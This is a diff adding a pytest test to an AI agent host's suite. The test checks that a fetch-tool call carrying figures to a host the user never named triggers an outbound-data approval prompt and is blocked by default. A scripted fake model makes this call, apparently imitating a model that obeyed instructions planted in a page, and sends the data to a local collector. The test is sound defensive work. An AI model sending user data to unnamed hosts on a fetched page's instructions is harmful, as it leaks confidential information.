@@ -5,7 +5,9 @@ destructive tool and stdout garbage, each reached by the agent through the fake 
 from __future__ import annotations
 
 import json
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -244,3 +246,46 @@ def test_a_failed_start_shows_its_error_output_without_the_secret(settings, fake
     assert "'leaky'" in problems and "could not start" in problems
     assert "cannot log in with API_TOKEN=[REDACTED]" in problems  # the tail, redacted
     assert secret not in problems
+
+
+def test_an_address_with_data_for_a_host_the_user_never_named_asks_first(
+        settings, fake_model, workspace_config) -> None:
+    paths: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            paths.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"ok")
+
+    collector = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{collector.server_address[1]}"
+    write_config(workspace_config, {"faults": fault_server()})
+    # as a model would that obeyed a page: send the figures through the server's fetch tool
+    fake_model.script([
+        tool_calls(("mcp__faults__fetch", {"url": f"{url}/log?d=revenue-12.4M"}),
+                   ("mcp__faults__fetch", {"url": f"{url}/status"})),
+        reply("done"),
+        tool_call("mcp__faults__fetch", {"url": f"{url}/log?d=revenue-12.4M"}),
+        reply("sent")])
+    host = make_host(settings)
+    try:
+        approvals = Approvals("once", default="deny")  # the first answer starts the server
+        run_turn(host, "summarise the quarterly page", approvals)
+        sent, status = tool_results(fake_model.chat_requests[1])
+        assert "outbound_data" in sent and "Not run" in sent
+        assert [r.risk for r in approvals.requests] == ["mcp_server_start", "outbound_data"]
+        assert url.split("//")[1] in approvals.requests[1].detail
+        assert status == "ok" and paths == ["/status"]  # no data in it: no question
+        run_turn(host, f"yes, send the figures to {url}", approvals)
+    finally:
+        host.close()
+        collector.shutdown()
+        collector.server_close()
+    assert tool_results(fake_model.chat_requests[3])[-1] == "ok"
+    assert paths == ["/status", "/log?d=revenue-12.4M"] and len(approvals.requests) == 2
